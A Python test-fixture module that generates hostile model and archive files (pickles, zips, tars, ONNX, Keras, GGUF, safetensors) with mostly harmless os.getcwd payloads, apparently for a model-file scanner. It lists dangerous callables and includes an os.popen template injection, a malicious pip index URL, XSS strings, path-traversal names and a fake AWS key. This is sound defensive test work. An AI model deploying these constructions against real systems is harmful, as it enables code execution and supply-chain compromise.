"""Hostile files with harmless payloads, built at test time and never opened.

Every payload would at most ask for the working directory. ``hostile()`` yields (name, bytes); the
name carries the kind before its first slash.
"""

import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import pickletools
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Iterator
from typing import Any

CALLABLES = [
    "os.system",
    "os.popen",
    "os.getcwd",
    "os.execl",
    "os.remove",
    "os.putenv",
    "os.startfile",
    "posix.system",
    "nt.system",
    "subprocess.run",
    "subprocess.Popen",
    "subprocess.check_output",
    "subprocess.getoutput",
    "commands.getoutput",
    "builtins.eval",
    "builtins.exec",
    "builtins.compile",
    "builtins.open",
    "builtins.__import__",
    "builtins.getattr",
    "builtins.print",
    "builtins.input",
    "builtins.globals",
    "__builtin__.eval",
    "__builtin__.apply",
    "__builtin__.execfile",
    "sys.exit",
    "sys.settrace",
    "sys.setrecursionlimit",
    "shutil.rmtree",
    "shutil.copy",
    "socket.socket",
    "socket.create_connection",
    "pty.spawn",
    "pdb.run",
    "bdb.Bdb",
    "code.interact",
    "codeop.compile_command",
    "runpy.run_path",
    "runpy._run_code",
    "ctypes.CDLL",
    "ctypes.cdll.LoadLibrary",
    "multiprocessing.Process",
    "threading.Timer",
    "_thread.start_new_thread",
    "asyncio.create_subprocess_shell",
    "concurrent.futures.ThreadPoolExecutor",
    "importlib.import_module",
    "importlib.util.spec_from_file_location",
    "imp.load_source",
    "pkgutil.get_data",
    "zipimport.zipimporter",
    "pickle.loads",
    "_pickle.loads",
    "marshal.loads",
    "shelve.open",
    "dill.loads",
    "cloudpickle.loads",
    "webbrowser.open",
    "http.client.HTTPSConnection",
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "ftplib.FTP",
    "smtplib.SMTP",
    "telnetlib.Telnet",
    "xmlrpc.client.ServerProxy",
    "timeit.timeit",
    "cProfile.run",
    "cProfile.runctx",
    "profile.run",
    "trace.Trace",
    "tempfile.mktemp",
    "io.FileIO",
    "io.open",
    "codecs.open",
    "codecs.decode",
    "platform.popen",
    "signal.signal",
    "faulthandler.dump_traceback",
    "atexit.register",
    "gc.get_objects",
    "inspect.getsource",
    "site.addsitedir",
    "venv.create",
    "ensurepip.bootstrap",
    "pip.main",
    "pip._internal.main",
    "setuptools.setup",
    "distutils.spawn.spawn",
    "pkg_resources.load_entry_point",
    "pydoc.locate",
    "pydoc.pipepager",
    "doctest.debug_script",
    "unittest.main",
    "sqlite3.connect",
    "mmap.mmap",
    "fcntl.ioctl",
    "resource.setrlimit",
    "glob.glob",
    "fileinput.input",
    "linecache.getline",
    "logging.config.dictConfig",
    "functools.reduce",
    "operator.attrgetter",
    "operator.methodcaller",
    "itertools.starmap",
    "types.FunctionType",
    "types.CodeType",
    "copyreg.add_extension",
    "collections.namedtuple",
    "numpy.load",
    "numpy.fromfile",
    "numpy.memmap",
    "numpy.testing._private.utils.runstring",
    "numpy.f2py.crackfortran.myeval",
    "numpy.distutils.exec_command.exec_command",
    "numpy.core._ufunc_reconstruct",
    "torch.load",
    "torch.hub.load",
    "torch.serialization.load",
    "torch.jit.load",
    "torch.jit.unsupported_tensor_ops.execWrapper",
    "torch.utils.bottleneck.__main__.run_cprofile",
    "torch.utils.collect_env.run",
    "torch.utils.cpp_extension.load",
    "torch._dynamo.guards.GuardBuilder.get",
    "torch._inductor.codecache.compile_file",
    "torch.fx.graph_module._forward_from_src",
    "torch.package.PackageImporter",
    "torch.distributed.rpc.rpc_sync",
    "torch.storage._load_from_bytes",
    "torch.utils.data.datapipes.utils.decoder.basichandlers",
    "torch.utils._config_module.ConfigModule.load_config",
    "sklearn.externals.joblib.load",
    "sklearn.datasets.load_files",
    "sklearn.utils._testing.assert_run_python_script",
    "scipy.io.loadmat",
    "pandas.read_pickle",
    "pandas.eval",
    "pandas.io.common.get_handle",
    "pandas.core.computation.eval.eval",
    "joblib.load",
    "joblib.Memory",
    "joblib.numpy_pickle.load",
    "tensorflow.io.read_file",
    "keras.utils.get_file",
    "IPython.core.interactiveshell.run_cell",
    "idlelib.pyshell.ModifiedInterpreter.runcode",
    "lib2to3.pgen2.grammar.Grammar.loads",
    "ssl.get_server_certificate",
    "aiohttp.request",
    "requests.get",
    "paramiko.SSHClient",
    "bottle.run",
    "sympy.sympify",
    "mypackage.helpers.setup",
    "__main__.run",
    "_io.FileIO",
    "bz2.open",
    "antigravity.geohash",
    "getpass.getpass",
    "csv.reader",
    "nturl2path.url2pathname",
    "_aix_support._read_cmd_output",
    "_osx_support._find_build_tool",
    "uuid._get_command_stdout",
]


def called(path: str, *arguments: str, protocol: int = 2) -> bytes:
    """The pickle of ``path(*arguments)``, written opcode by opcode."""
    module, _, name = path.rpartition(".")
    items = b"".join(b"X" + struct.pack("<I", len(a)) + a.encode() for a in arguments)
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol >= 4:
        names = b"".join(b"\x8c" + bytes([len(t)]) + t.encode() for t in (module, name))
        return head + names + b"\x93(" + items + b"tR."
    return head + f"c{module}\n{name}\n(".encode() + items + b"tR."


EVIL = called("os.getcwd")
EVIL4 = called("os.getcwd", protocol=4)


def opcode_forms() -> Iterator[tuple[str, bytes]]:
    yield "protocol0", b"cos\ngetcwd\n(tR."
    yield "inst", b"(S'x'\nios\ngetcwd\n."
    yield "obj", b"(cos\ngetcwd\no."
    yield "newobj", b"\x80\x02cos\ngetcwd\n)\x81."
    yield "newobj_ex", b"\x80\x04\x8c\x02os\x8c\x06getcwd\x93)}\x92."
    yield "stack_global", EVIL4
    yield "memo", b"\x80\x04\x8c\x02os\x94\x8c\x06getcwd\x9400h\x00h\x01\x93)R."
    yield "memo_lines", b"\x80\x04\x8c\x02osp7\n0\x8c\x06getcwdp9\n0g7\ng9\n\x93)R."
    yield "dotted", b"\x80\x04\x8c\x0bcollections\x8c\x1fOrderedDict.__init__.__globals__\x93."
    yield "dotted_module", b"\x80\x04\x8c\x05torch\x8c\x08hub.load\x93)R."
    yield (
        "computed_name",
        b"\x80\x04\x8c\x02os\x8c\x08builtins\x8c\x03str\x93\x8c\x06getcwd\x85R\x93)R.",
    )
    yield "long_name", b"\x80\x04X" + struct.pack("<I", 600) + b"a" * 600 + b"\x8c\x06getcwd\x93)R."
    yield "extension", b"\x80\x02\x82\x01)R."
    yield "extension4", b"\x80\x02\x84\x01\x01\x00\x00)R."
    yield "build_on_global", b"\x80\x02ccollections\nOrderedDict\n}(X\x01\x00\x00\x00aK\x01ub."
    yield "setitem_on_global", b"\x80\x02ccollections\nOrderedDict\nK\x01K\x02s."
    yield "persistent", b"\x80\x02X\x03\x00\x00\x00abcQ."
    yield "persistent_line", b"(Pevil\nlcos\ngetcwd\n)R."
    yield "nested_bytes", pickle.dumps({"inner": EVIL})
    yield "nested_bytes0", pickle.dumps([b"cos\ngetcwd\n(tR."], protocol=4)
    yield "nested_latin", pickle.dumps({"inner": EVIL}, protocol=2)
    yield "nested_proto0", pickle.dumps({"inner": EVIL}, protocol=0)
    yield "nested_zlib", pickle.dumps({"inner": zlib.compress(EVIL)}, protocol=4)
    yield "second_pickle", pickle.dumps({"a": 1}) + EVIL
    yield "third_plain", pickle.dumps(1) + pickle.dumps(2) + b"cos\ngetcwd\n(tR."
    yield "hex_int", b"I0x10\n0cos\ngetcwd\n(tR."
    yield "octal_int", b"I010\n0cos\ngetcwd\n(tR."
    yield "indirect", b"\x80\x02cfunctools\npartial\ncmymod\nrun\n\x85R)R."
    yield "loader", called("torch.storage._load_from_bytes")
    yield "python2_name", b"c__builtin__\neval\n(S'1'\ntR."
    yield (
        "frame_lie",
        b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f\x8c\x02os\x8c\x06getcwd\x93)R.",
    )
    yield "mark_pop", b"\x80\x02(0(K\x011cos\ngetcwd\n)R."
    yield "deep_tuple", b"\x80\x02)" + b"\x85" * 3_000_000 + b"."
    yield "padded", b"\x80\x02" + b"N0" * 200_000 + EVIL[2:]
    yield "padded_odd", b"\x80\x02" + b"K\x01K\x02\x860" * 30_000 + EVIL[2:]


def broken() -> Iterator[tuple[str, bytes]]:
    body = EVIL4[:-1]
    yield "no_stop", body
    yield "bad_opcode_after", body + b"\xff\xff\xff."
    yield "underflow_after", body + b"00000."
    yield "cut_string_after", body + b"X\xff\xff\xff\x7fabc"
    yield "huge_length_before", b"\x80\x04\x8e" + b"\xff" * 8 + b"cos\ngetcwd\n)R."
    yield "zeros_after", EVIL4 + b"\x00" * 4096
    yield "missing_memo_after", body + b"h\xee."
    yield "bad_protocol_after", body + b"\x80\x09."
    yield "spaces_after", EVIL4 + b" \n" * 50


def archived(members: dict[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def torch_like(body: bytes = b"\x80\x02}.", **more: bytes) -> dict[str, bytes]:
    return {"m/data.pkl": body, "m/version": b"3\n", "m/data/0": b"\0" * 64, **more}


def duplicate(first: bytes, second: bytes) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("m/data.pkl", first)
        archive.writestr("m/data.pkl", second)
        archive.writestr("m/version", b"3\n")
    return buffer.getvalue()


def patched(data: bytes, old: bytes, new: bytes, *, last: bool = False) -> bytes:
    at = data.rfind(old) if last else data.find(old)
    assert at >= 0
    assert len(old) == len(new)
    return data[:at] + new + data[at + len(old) :]


def zip_tricks() -> Iterator[tuple[str, bytes]]:
    good = archived(torch_like())
    good_pickle = b"\x80\x02}."
    yield "evil_pkl", archived(torch_like(EVIL))
    yield "evil_other_member", archived({**torch_like(), "m/hidden.bin": EVIL4})
    yield "evil_storage", archived({**torch_like(), "m/data/1": EVIL4})
    yield "elf_storage", archived({**torch_like(), "m/data/1": b"\x7fELF" + b"\0" * 60})
    yield "deflated", archived(torch_like(EVIL), zipfile.ZIP_DEFLATED)
    yield "bz2", archived(torch_like(EVIL), zipfile.ZIP_BZIP2)
    yield "lzma", archived(torch_like(EVIL), zipfile.ZIP_LZMA)
    yield "duplicate_evil_first", duplicate(EVIL, good_pickle)
    yield "duplicate_evil_last", duplicate(good_pickle, EVIL)
    yield "case_twin", archived({**torch_like(), "m/DATA.pkl": EVIL})
    yield "local_name", patched(good, b"m/data.pkl", b"m/evil.pkl")
    yield "central_name", patched(good, b"m/data.pkl", b"m/evil.pkl", last=True)
    yield "prefix", b"MZ" + b"\0" * 62 + good
    yield "pickle_prefix", EVIL + good
    yield "suffix", good + b"junk" * 8
    yield "pickle_suffix", good + EVIL
    yield "text_prefix", b"a plain note\n" + good
    central = good.find(b"PK\x01\x02")
    yield "encrypted_flag", good[: central + 8] + b"\x01\x08" + good[central + 10 :]
    yield "local_method", good[:8] + b"\x08\x00" + good[10:]
    yield "local_crc", good[:14] + b"\1\2\3\4" + good[18:]
    yield "central_crc", good[: central + 16] + b"\1\2\3\4" + good[central + 20 :]
    yield "local_size", good[:18] + b"\x05\0\0\0\x05\0\0\0" + good[26:]
    yield "gap", _with_gap(good, central)
    yield "overlap", _overlapping(good, central)
    yield "truncated", good[:-10]
    yield "no_directory", good[:central]
    yield "comment_zip", _with_comment(good, b"x" + archived({"a": b"b"}))
    yield "two_ends", good + good[good.rfind(b"PK\x05\x06") :]
    for label, name in (
        ("slip", "../../evil.txt"),
        ("absolute", "/etc/evil"),
        ("backslash", "..\\evil"),
        ("drive", "C:/evil"),
        ("long", "a" * 300),
    ):
        yield label, archived({**torch_like(), name: b"hello\n"})
    yield (
        "nul_name",
        archived(torch_like(**{"m/nulXname": b"x\n"})).replace(b"nulXname", b"nul\0name"),
    )
    link = zipfile.ZipInfo("m/link")
    link.external_attr = 0o120777 << 16
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(link, "/etc/hostname")
    yield "symlink", buffer.getvalue()
    yield (
        "torchscript_custom_op",
        archived(
            {
                "m/code/__torch__.py": b"def forward(self, x: Tensor) -> Tensor:\n  return ops.evil.run(x)\n",
                "m/data.pkl": good_pickle,
                "m/version": b"3\n",
            }
        ),
    )
    yield (
        "torchscript_from_file",
        archived(
            {
                "m/code/__torch__.py": b"def forward(self, x: Tensor) -> Tensor:\n  return torch.from_file(x)\n",
                "m/data.pkl": good_pickle,
            }
        ),
    )
    yield (
        "pt2_library",
        archived(
            {
                "m/archive_format": b"pt2",
                "m/data/aotinductor/model/a.so": b"\x7fELF\x02\x01\x01" + b"\0" * 90,
            }
        ),
    )
    yield (
        "pt2_hidden_pickle",
        archived(
            {
                "m/archive_format": b"pt2",
                "m/data/sample_inputs/model.pt": archived(torch_like(EVIL)),
            }
        ),
    )
    yield "empty_zip", archived({})


def _with_gap(good: bytes, central: int) -> bytes:
    out = bytearray(good[:central] + EVIL.ljust(64, b"\0") + good[central:])
    end = out.rfind(b"PK\x05\x06")
    struct.pack_into("<I", out, end + 16, central + 64)
    return bytes(out)


def _overlapping(good: bytes, central: int) -> bytes:
    second = good.find(b"PK\x01\x02", central + 4)
    out = bytearray(good)
    out[second + 42 : second + 46] = out[central + 42 : central + 46]
    return bytes(out)


def _with_comment(good: bytes, comment: bytes) -> bytes:
    return good[:-2] + struct.pack("<H", len(comment)) + comment


def wrapped() -> Iterator[tuple[str, bytes]]:
    yield "a.gz", gzip.compress(EVIL)
    yield "a.bz2", bz2.compress(EVIL)
    yield "a.xz", lzma.compress(EVIL)
    yield "a.lzma", lzma.compress(EVIL, lzma.FORMAT_ALONE)
    yield "a.z", zlib.compress(EVIL)
    yield "best.z", zlib.compress(EVIL4, 9)
    yield "fast.joblib", zlib.compress(EVIL4, 1)
    yield "gzip_named.joblib", gzip.compress(EVIL4)
    yield "two_members.gz", gzip.compress(pickle.dumps(1)) + gzip.compress(EVIL)
    yield "cut.gz", gzip.compress(EVIL + os.urandom(9000))[:-4]
    yield "twice.gz", gzip.compress(bz2.compress(EVIL))
    yield "lz4.joblib", b"\x04\x22\x4d\x18\x64\x40\xa7" + EVIL
    yield "zfile.pkl", b"ZF" + hex(len(EVIL)).encode().ljust(19) + zlib.compress(EVIL)
    yield "bomb.gz", gzip.compress(b"\0" * (96 << 20), 9)


def joblib_tricks() -> Iterator[tuple[str, bytes]]:
    import joblib
    import numpy as np

    class Payload:
        def __reduce__(self) -> Any:
            return os.getcwd, ()

    buffer = io.BytesIO()
    joblib.dump([np.arange(50.0), Payload()], buffer)
    yield "after_array.joblib", buffer.getvalue()
    buffer = io.BytesIO()
    joblib.dump({"a": np.array([Payload(), 1], dtype=object), "b": 1}, buffer)
    yield "object_array.joblib", buffer.getvalue()
    buffer = io.BytesIO()
    joblib.dump([np.zeros((3, 4)), {"x": Payload()}], buffer, compress=3)
    yield "compressed.joblib", buffer.getvalue()
    # The array itself is a pickle: joblib steps over it, a plain unpickler runs it.
    buffer = io.BytesIO()
    body = b"cos\ngetcwd\n(tR.".ljust(64, b".")
    joblib.dump([np.frombuffer(body, dtype="u1")], buffer)
    data = buffer.getvalue()
    at = data.index(body)
    pad = at - len(data[:at].rstrip(b"\xff")) + 1
    unaligned = data[: at - pad].replace(
        b"numpy_array_alignment_bytes", b"numpy_array_alignment_bytez"
    )
    yield "array_is_pickle.joblib", unaligned + data[at:]


def arrays() -> Iterator[tuple[str, bytes]]:
    import numpy as np

    class Payload:
        def __reduce__(self) -> Any:
            return os.getcwd, ()

    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    yield "object.npy", buffer.getvalue()
    buffer = io.BytesIO()
    np.savez(buffer, a=np.array([Payload()], dtype=object))
    yield "object.npz", buffer.getvalue()
    buffer = io.BytesIO()
    np.save(buffer, np.zeros(4))
    yield "trailing.npy", buffer.getvalue() + EVIL
    yield "lie.npy", buffer.getvalue().replace(b"(4,)", b"(9,)")
    yield "code_header.npy", buffer.getvalue().replace(b"'shape': (4,), ", b"'shape': abs(1)")


def nested() -> Iterator[tuple[str, bytes]]:
    yield "zip_in_zip.zip", archived({"inner.zip": archived({"a.pkl": EVIL})})
    yield (
        "deflated.zip",
        archived({"inner.bin": archived({"a": EVIL}, zipfile.ZIP_DEFLATED)}, zipfile.ZIP_DEFLATED),
    )
    data = EVIL
    for _ in range(50):
        data = archived({"a.zip": data})
    yield "fifty.zip", data
    for suffix in ("", "gz", "bz2", "xz"):
        buffer = io.BytesIO()
        with tarfile.open(fileobj=buffer, mode=f"w:{suffix}") as archive:  # type: ignore[call-overload]  # the mode is built
            info = tarfile.TarInfo("model.pkl")
            info.size = len(EVIL)
            archive.addfile(info, io.BytesIO(EVIL))
        yield f"model.tar.{suffix or 'tar'}", buffer.getvalue()
    yield "seven.7z", b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 40
    yield "tar_in_zip.zip", archived({"x.tar": tarred("../evil", b"x")})
    yield "slip.tar", tarred("../../evil", b"x")
    yield "absolute.tar", tarred("/etc/evil", b"x")
    for label, kind in (
        ("link", tarfile.SYMTYPE),
        ("hard", tarfile.LNKTYPE),
        ("device", tarfile.CHRTYPE),
        ("pipe", tarfile.FIFOTYPE),
    ):
        yield f"{label}.tar", tarred("a", b"", kind)


def tarred(name: str, data: bytes, kind: bytes = tarfile.REGTYPE) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.type, info.size, info.linkname = kind, len(data), "/etc/hostname"
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def keras() -> Iterator[tuple[str, bytes]]:
    def layer(**config: Any) -> dict[str, Any]:
        return {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {},
            "registered_name": None,
            **config,
        }

    trees = {
        "lambda": layer(class_name="Lambda"),
        "nested_lambda": layer(
            config={"layers": [layer(config={"layers": [layer(class_name="Lambda")]})]}
        ),
        "module": layer(module="os", class_name="system"),
        "function": layer(
            config={
                "activation": {"module": "builtins", "class_name": "function", "config": "eval"}
            }
        ),
        "lambda_code": layer(
            config={"fn": {"class_name": "__lambda__", "config": {"code": "4wA="}}}
        ),
        "registered": layer(registered_name="evil>Thing"),
        "get_file": layer(module="keras.utils", class_name="get_file"),
        "in_string": layer(config={"raw": json.dumps(layer(class_name="Lambda"))}),
        "tfsm": layer(class_name="TFSMLayer"),
    }
    for name, tree in trees.items():
        config = json.dumps(
            {"module": "keras", "class_name": "Sequential", "config": {"layers": [tree]}}
        )
        members = {
            "config.json": config.encode(),
            "metadata.json": b"{}",
            "model.weights.h5": b"\x89HDF\r\n\x1a\n",
        }
        yield f"{name}.keras", archived(members)
        yield f"{name}.h5", b"\x89HDF\r\n\x1a\n" + b"\0" * 500 + config.encode() + b"\0" * 64
        yield f"{name}.json", config.encode()


def protobuf(*fields: tuple[int, bytes | int]) -> bytes:
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += _varint(number << 3) + _varint(value)
        else:
            out += _varint(number << 3 | 2) + _varint(len(value)) + value
    return out


def _varint(value: int) -> bytes:
    value &= (1 << 64) - 1
    out = b""
    while value > 0x7F:
        out += bytes([value & 0x7F | 0x80])
        value >>= 7
    return out + bytes([value])


def onnx_model(
    *, initializer: bytes = b"", node: bytes = b"", more: bytes = b"", second: bytes = b""
) -> bytes:
    graph = b""
    for number, part in ((1, node), (1, second), (5, initializer)):
        graph += protobuf((number, part)) if part else b""
    return (
        protobuf(
            (1, 8), (2, b"test"), (7, graph + protobuf((2, b"g"))), (8, protobuf((1, b""), (2, 17)))
        )
        + more
    )


def onnx() -> Iterator[tuple[str, bytes]]:
    def external(location: str, **more: str) -> bytes:
        pairs = {"location": location, **more}
        entries = [(13, protobuf((1, k.encode()), (2, v.encode()))) for k, v in pairs.items()]
        return protobuf((1, 4), (2, 1), (8, b"w"), *entries, (14, 1))

    for label, location in (
        ("parent", "../../etc/passwd"),
        ("absolute", "/etc/passwd"),
        ("backslash", "..\\x"),
        ("url", "http://a/b"),
    ):
        yield f"{label}.onnx", onnx_model(initializer=external(location))
    yield "offset.onnx", onnx_model(initializer=external("w.bin", offset="-5"))
    relu = protobuf((1, b"x"), (2, b"y"), (4, b"Relu"))
    yield (
        "custom_op.onnx",
        onnx_model(node=protobuf((1, b"x"), (2, b"y"), (4, b"Evil"), (7, b"evil.domain"))),
    )
    yield (
        "python_op.onnx",
        onnx_model(node=protobuf((1, b"x"), (2, b"y"), (4, b"PyOp"), (7, b"ai.onnx.contrib"))),
    )
    yield (
        "giant.onnx",
        onnx_model(initializer=protobuf((1, 1 << 31), (1, 1 << 31), (2, 1), (8, b"w"))),
    )
    yield "negative.onnx", onnx_model(initializer=protobuf((1, -4), (2, 1), (8, b"w")))
    yield (
        "cycle.onnx",
        onnx_model(
            node=protobuf((1, b"b"), (2, b"a"), (4, b"Relu")),
            second=protobuf((1, b"a"), (2, b"b"), (4, b"Relu")),
        ),
    )
    yield (
        "script_metadata.onnx",
        onnx_model(node=relu, more=protobuf((14, protobuf((1, b"k"), (2, b"<script>1</script>"))))),
    )
    yield "cut.onnx", onnx_model(node=relu)[:-3]


def safetensors() -> Iterator[tuple[str, bytes]]:
    def made(header: dict[str, Any] | bytes, data: bytes, length: int | None = None) -> bytes:
        text = header if isinstance(header, bytes) else json.dumps(header).encode()
        return struct.pack("<Q", len(text) if length is None else length) + text + data

    def entry(start: int, end: int, n: int | None = None) -> dict[str, Any]:
        return {
            "dtype": "F32",
            "shape": [(end - start) // 4 if n is None else n],
            "data_offsets": [start, end],
        }

    yield "overlap", made({"a": entry(0, 16), "b": entry(8, 24)}, b"\0" * 24)
    yield "gap", made({"a": entry(0, 16), "b": entry(32, 48)}, b"\0" * 48)
    yield (
        "duplicate",
        made(
            b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
            b"\0" * 16,
        ),
    )
    yield "trailing_pickle", made({"a": entry(0, 16)}, b"\0" * 16 + EVIL)
    yield "trailing_zip", made({"a": entry(0, 16)}, b"\0" * 16 + archived({"a": b"b"}))
    yield "header_bomb", made({"a": entry(0, 16)}, b"\0" * 16, length=1 << 62)
    yield "short", made({"a": entry(0, 1600)}, b"\0" * 16)
    yield "shape_lie", made({"a": entry(0, 16, n=400)}, b"\0" * 16)
    yield (
        "negative",
        made({"a": {"dtype": "F32", "shape": [-4], "data_offsets": [0, 16]}}, b"\0" * 16),
    )
    yield (
        "script",
        made({"__metadata__": {"n": "<script>alert(1)</script>"}, "a": entry(0, 16)}, b"\0" * 16),
    )
    yield "deep_header", made(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}", b"")
    yield (
        "bad_dtype",
        made({"a": {"dtype": "OBJ", "shape": [4], "data_offsets": [0, 16]}}, b"\0" * 16),
    )


def gguf() -> Iterator[tuple[str, bytes]]:
    def text(value: str) -> bytes:
        return struct.pack("<Q", len(value)) + value.encode()

    def made(key: str, value: str, tensors: int = 0) -> bytes:
        return (
            b"GGUF"
            + struct.pack("<IQQ", 3, tensors, 1)
            + text(key)
            + struct.pack("<I", 8)
            + text(value)
        )

    yield (
        "template",
        made("tokenizer.chat_template", "{{ cycler.__init__.__globals__.os.popen('id') }}"),
    )
    yield "overflow", b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 1 << 62)
    yield "long_text", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 1 << 60)
    yield (
        "tensor_outside",
        made("a", "b", 1) + text("w") + struct.pack("<IQIQ", 1, 1 << 50, 0, 1 << 40),
    )


def skops() -> Iterator[tuple[str, bytes]]:
    def made(node: dict[str, Any]) -> bytes:
        base = {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {"a": node},
            "protocol": 2,
        }
        return archived({"schema.json": json.dumps(base).encode()})

    yield (
        "function",
        made(
            {
                "__class__": "system",
                "__module__": "os",
                "__loader__": "FunctionNode",
                "content": None,
            }
        ),
    )
    yield (
        "old_function",
        made(
            {
                "__class__": "function",
                "__module__": "builtins",
                "__loader__": "FunctionNode",
                "content": {"module_path": "subprocess", "function": "run"},
            }
        ),
    )
    yield (
        "foreign_type",
        made(
            {
                "__class__": "Thing",
                "__module__": "mypackage.things",
                "__loader__": "ObjectNode",
                "content": {},
            }
        ),
    )
    yield (
        "method",
        made(
            {
                "__class__": "methodcaller",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": {},
            }
        ),
    )
    yield (
        "pickle_member",
        archived(
            {
                "schema.json": b'{"__class__":"dict","__module__":"builtins","__loader__":"DictNode","content":{}}',
                "1.npy": EVIL,
            }
        ),
    )


def texts() -> Iterator[tuple[str, bytes]]:
    yield "config.json", b'{"auto_map": {"AutoModel": "evil--repo.modeling.Model"}}'
    yield "trust.json", b'{"trust_remote_code": true}'
    yield (
        "tokenizer_config.json",
        json.dumps(
            {"chat_template": "{% for m in messages %}{{ ''.__class__.__mro__ }}{% endfor %}"}
        ).encode(),
    )
    yield "deep.json", b"[" * 200_000 + b"]" * 200_000
    yield "README.md", b"# Model\n<script>fetch('//x')</script>\n"
    yield "handler.md", b"# Model\n<img src=x onerror=alert(1)>\n"
    yield "escape.txt", b"hello \x1b]0;evil\x07"
    yield "modeling.py", b"import os\nclass Model:\n    pass\n"
    yield "install.sh", b"#!/bin/sh\necho hi\n"
    yield "lib.so", b"\x7fELF\x02\x01\x01" + b"\0" * 100
    yield "run.exe", b"MZ" + b"\0" * 58 + struct.pack("<L", 64) + b"PE\0\0" + b"\0" * 64
    yield "conf.yaml", b"a: !!python/object/apply:os.getcwd []\n"
    yield "requirements.txt", b"numpy\n--index-url http://evil.example/simple\n"
    yield "twin/requirements.txt", b"nunpy==1.0\nscikit-leam\n"
    yield "secret.env", b"AWS_ACCESS_KEY_ID=AKIA" + b"ABCDEFGH12345678\n"
    yield "empty.pkl", b""
    yield "page.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>"
    yield (
        "saved_model.pb",
        protobuf((1, 1), (2, protobuf((2, protobuf((1, protobuf((1, b"r"), (2, b"ReadFile")))))))),
    )
    yield "notes.ipynb", b'{"cells": [], "nbformat": 4}'
    yield "hidden.txt", "order \u202e reversed".encode()


EXTENSIONS = [
    "pkl",
    "pickle",
    "pt",
    "pth",
    "bin",
    "ckpt",
    "joblib",
    "dat",
    "data",
    "txt",
    "md",
    "json",
    "png",
    "npy",
    "model",
    "onnx",
    "safetensors",
    "h5",
]


def hostile() -> Iterator[tuple[str, bytes]]:
    """All hostile files: ``kind/name`` and bytes."""
    for path in CALLABLES:
        for protocol in (0, 4):
            yield f"callables/{path}.p{protocol}.pkl", called(path, "1", protocol=protocol)
    for suffix in EXTENSIONS:
        yield f"extensions/model.{suffix}", EVIL if len(suffix) % 2 else EVIL4
    for kind, made, suffix in (
        ("opcodes", opcode_forms(), ".pkl"),
        ("broken", broken(), ".pkl"),
        ("zip", zip_tricks(), ".pt"),
        ("wrapped", wrapped(), ""),
        ("joblib", joblib_tricks(), ""),
        ("arrays", arrays(), ""),
        ("nested", nested(), ""),
        ("keras", keras(), ""),
        ("onnx", onnx(), ""),
        ("safetensors", safetensors(), ".safetensors"),
        ("gguf", gguf(), ".gguf"),
        ("skops", skops(), ".skops"),
        ("texts", texts(), ""),
    ):
        for name, data in made:
            yield f"{kind}/{name}{suffix}", data


def is_whole(data: bytes) -> bool:
    """Whether ``pickletools`` can walk it: a check on the corpus itself."""
    try:
        list(pickletools.genops(data))
    except Exception:  # noqa: BLE001 - any refusal means no
        return False
    return True
